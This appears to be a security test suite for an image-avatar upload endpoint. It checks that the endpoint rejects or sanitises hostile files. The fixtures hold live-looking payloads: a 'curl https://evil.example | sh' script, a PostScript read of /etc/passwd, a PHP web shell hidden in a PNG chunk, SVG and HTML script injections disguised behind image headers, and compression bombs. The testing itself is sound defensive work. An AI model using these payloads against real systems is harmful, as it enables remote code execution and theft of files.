import { createHash } from 'node:crypto';
import { request } from 'node:http';
import { deflateRawSync, gzipSync } from 'node:zlib';
import { maxAvatarBytes } from '@forecourt/api/contract/settings/chat-avatars';
import type { ChatAvatar } from '@forecourt/api/contract/settings/chat-look';
import sharp from 'sharp';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { pdf } from '../../../test-support/hostilePdfs.ts';
import {
  animatedGif,
  avif,
  gifBomb,
  gifScript,
  jpeg,
  jpegOnItsSide,
  jpegWith,
  jpegWithPlace,
  jpegWithProfile,
  png,
  encodePng,
  pngWith,
  tiff,
  webpWithXmp,
} from '../../../test-support/hostilePictures.ts';
import { drawnSvgs, emptySvgs, hostileSvgs, plainSvg } from '../../../test-support/hostileSvgs.ts';
import { type TestApp, testApp } from '../../../test-support/testApp.ts';
import { chatDealer } from '../../../test-support/testWebsite.ts';

let server: TestApp;
let token: string;
beforeAll(async () => {
  server = await testApp({ TRUST_PROXY: '1' }, [chatDealer('home', { settings: { IsPilot: true } })]);
  await server.app.listen({ port: server.config.port, host: '127.0.0.1' });
  token = await server.tokenFor('admin');
});
afterAll(() => server.close());

interface Answer {
  status: number;
  headers: NodeJS.Dict<string | string[]>;
  content: Buffer;
}

/** A request as somebody writes it by hand, over a connection. */
const http = (method: string, path: string, headers: Record<string, string>, parts: Uint8Array[] = []) =>
  new Promise<Answer>((done, fail) => {
    const { port } = server.config;
    const asked = request({
      host: '127.0.0.1',
      port,
      method,
      path,
      headers: { host: `localhost:${port}`, ...headers },
    });
    asked.on('error', fail);
    asked.on('response', (answer) => {
      const chunks: Buffer[] = [];
      answer.on('data', (chunk: Buffer) => chunks.push(chunk));
      answer.on('end', () =>
        done({ status: answer.statusCode!, headers: answer.headers, content: Buffer.concat(chunks) }),
      );
    });
    for (const part of parts) asked.write(part);
    asked.end();
  });

const path = '/api/dashboard/home/chat-avatars?account_id=home&service_type=DealerChat';
let uploads = 0;
const upload = async (bytes: Uint8Array | string, headers: Record<string, string> = {}) => {
  const body = Buffer.from(bytes);
  const answer = await http(
    'POST',
    path,
    {
      authorization: `Bearer ${token}`,
      'content-type': 'application/octet-stream',
      'content-length': String(body.length),
      // The limit on uploads from one address is a test of its own.
      'x-forwarded-for': `10.5.0.${++uploads}`,
      ...headers,
    },
    [body],
  );
  return {
    status: answer.status,
    body: JSON.parse(answer.content.toString() || 'null') as ChatAvatar & { message: string },
  };
};

const latin1 = (text: string) => Buffer.from(text, 'latin1');
const page = '<html><body><script>alert("SecretCamera")</script></body></html>';
const appended = async (picture: Promise<Buffer>, more: string | Buffer) =>
  Buffer.concat([await picture, Buffer.from(more)]);
const padded = (bytes: number) => plainSvg + ' '.repeat(bytes - plainSvg.length);

type Bytes = Uint8Array | string;
type Table = Record<string, () => Bytes | Promise<Bytes>>;

/** What is refused, beside the SVGs. */
const refused: Table = {
  nothing: () => '',
  'a text': () => 'hello',
  'a script': () => '#!/bin/sh\ncurl https://evil.example | sh',
  'a program of Windows': () => latin1(`MZ\x90\x00${'\0'.repeat(200)}`),
  'a program of Linux': () => latin1(`\x7fELF${'\0'.repeat(200)}`),
  'a GIF that is a script': gifScript,
  'a GIF that moves': animatedGif,
  'a GIF as large as it can be': gifBomb,
  'a WebP': webpWithXmp,
  'an AVIF': avif,
  'a TIFF': tiff,
  'a PDF': () => pdf(),
  'a BMP': () => latin1(`BM\x46\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0${'\x01\0\0\0'.repeat(10)}`),
  'an icon': () => latin1(`\0\0\x01\0\x01\0\x10\x10${'\0'.repeat(100)}`),
  'a film': () => latin1(`\0\0\0\x18ftypmp42${'\0'.repeat(100)}`),
  PostScript: () => '%!PS-Adobe-3.0\n(/etc/passwd) run',
  'a picture of X': () => '#define a_width 8\n#define a_height 8\nstatic char a_bits[] = { 0x00 };',
  'a packed SVG': () => gzipSync(plainSvg),
  'a packed SVG that grows to 100 MB': () => gzipSync(Buffer.alloc(100_000_000, ' ')),
  'a ZIP': () => Buffer.concat([latin1('PK\x03\x04'), deflateRawSync('a'.repeat(100))]),
  'a script behind PNG’s first bytes': () => latin1('\x89PNG\r\n\x1a\n<svg onload=alert(1)>'),
  'a page behind JPEG’s first bytes': () => latin1(`\xff\xd8\xff\xe0${page}`),
  'half of a PNG': async () => (await png()).subarray(0, 60),
  'half of a JPEG': async () => (await jpeg()).subarray(0, 200),
  'a PNG of 30,000 × 30,000 px': () => encodePng(30_000, 30_000),
  'a PNG of 65 million px in a line': () => encodePng(65_000_000, 1),
  'a PNG of no px': () => encodePng(0, 0),
  'a PNG larger than what it holds': () => encodePng(4000, 4000),
  'a PNG without a visible pixel': () =>
    sharp({ create: { width: 9, height: 9, channels: 4, background: '#00000000' } })
      .png()
      .toBuffer(),
  'an SVG in UTF-16': () => Buffer.from(`\ufeff${plainSvg}`, 'utf16le'),
  'an SVG that is no UTF-8': () => latin1(plainSvg.replace('</svg>', '<!-- \xe9 --></svg>')),
  'an SVG in UTF-7': () => '+ADw-svg xmlns=+ACI-http://www.w3.org/2000/svg+ACI-+AD4-+ADw-/svg+AD4-',
};

/** What is made harmless. */
const remade: Table = {
  ...Object.fromEntries(Object.entries(drawnSvgs).map(([how, svg]) => [`an SVG ${how}`, () => svg])),
  'a photo with its place and its camera': jpegWithPlace,
  'a photo on its side': jpegOnItsSide,
  'a photo with a profile': jpegWithProfile,
  'a JPEG with a script in a comment': () => jpegWith(0xfe, Buffer.from(page)),
  'a JPEG with XMP': () => jpegWith(0xe1, Buffer.from(`http://ns.adobe.com/xap/1.0/\0<x>SecretCamera</x>`)),
  'a JPEG and a page': () => appended(jpeg(), page),
  'a JPEG and an archive': () => appended(jpeg(), Buffer.concat([latin1('PK\x03\x04SecretCamera')])),
  'a PNG with PHP in a text': () => pngWith('tEXt', Buffer.from('SecretCamera\0<?php system($_GET[0]); ?>')),
  'a PNG with XMP': () => pngWith('iTXt', Buffer.from('XML:com.adobe.xmp\0\0\0\0\0<x>SecretCamera</x>')),
  'a PNG with a chunk of its own': () => pngWith('seCr', Buffer.from(`SecretCamera${page}`)),
  'a PNG and a page': () => appended(png(), page),
  'a PNG and an archive': () => appended(png(), Buffer.concat([latin1('PK\x03\x04SecretCamera')])),
  'an SVG with names of its own': () =>
    plainSvg.replace('<circle', '<circle data-x="SecretCamera" class="SecretCamera" tabindex="1"'),
};

it('are more than sixty, each another one', async () => {
  const all = await Promise.all([...Object.values(refused), ...Object.values(remade)].map(async (make) => make()));
  const hashes = [...all, ...Object.values(hostileSvgs)].map((bytes) =>
    createHash('sha256').update(bytes).digest('hex'),
  );
  expect(new Set(hashes).size).toBe(hashes.length);
  expect(hashes.length).toBeGreaterThanOrEqual(60);
});

const words =
  /^(This SVG contains scripts, effects, text, or links\. Export it as plain shapes, or upload a PNG\.|Choose a PNG, JPEG, or SVG image\.|This file is (empty\. Choose another one|damaged\. Try another copy of it)\.|This image shows nothing\. Choose another one\.|This image has more than 64 megapixels\. Send a smaller version\.)$/;

it.each([
  ...Object.entries(refused),
  ...Object.entries({ ...hostileSvgs, ...emptySvgs }).map(([what, svg]) => [`an SVG with ${what}`, () => svg] as const),
])('refused, in words: %s', async (_what, make) => {
  const { status, body } = await upload(await make());
  expect(status, body.message).toBe(422);
  expect(body.message).toMatch(words);
});

it.each(Object.entries(remade))('made harmless: %s', async (_what, make) => {
  const { status, body } = await upload(await make());
  expect(status, body.message).toBe(200);
  const { headers, content } = await http('GET', body.url, {});
  expect(headers).toMatchObject({
    'content-type': 'image/png',
    'x-content-type-options': 'nosniff',
    'content-security-policy': "default-src 'none'; sandbox; frame-ancestors 'none'",
  });
  expect(content.toString('latin1')).not.toMatch(/SecretCamera|script|<html|php|metadata|tEXt|iTXt|data-x/i);
  const { exif, icc, xmp, orientation, ...size } = await sharp(content).metadata();
  expect([exif, icc, xmp, orientation]).toEqual([undefined, undefined, undefined, undefined]);
  expect(Math.max(size.width, size.height)).toBeLessThanOrEqual(256);
});

it('takes 250 KB and not a byte more, also where a request does not say how long it is', async () => {
  expect((await upload(padded(maxAvatarBytes))).status).toBe(200);
  const larger = { status: 413, body: { message: 'Please upload an image under 250KB.' } };
  expect(await upload(padded(maxAvatarBytes + 1))).toMatchObject(larger);
  expect(await upload(await appended(jpeg(), Buffer.alloc(maxAvatarBytes)))).toMatchObject(larger);
  const chunked = await http(
    'POST',
    path,
    { authorization: `Bearer ${token}`, 'content-type': 'application/octet-stream', 'transfer-encoding': 'chunked' },
    Array.from({ length: 6 }, () => Buffer.alloc(50_000, ' ')),
  );
  expect(chunked.status).toBe(413);
});

it('is only what the request says: no other type, packed or in a form', async () => {
  for (const type of ['image/svg+xml', 'image/png', 'text/html', 'multipart/form-data; boundary=a', 'application/json'])
    expect((await upload(plainSvg, { 'content-type': type })).status, type).toBeOneOf([400, 415]);
  // What is packed is not unpacked: a bomb stays as small as it is.
  for (const encoding of ['gzip', 'deflate', 'br'])
    expect(
      (await upload(gzipSync(Buffer.alloc(100_000_000)), { 'content-encoding': encoding })).status,
      encoding,
    ).toBeOneOf([415, 422]);
});
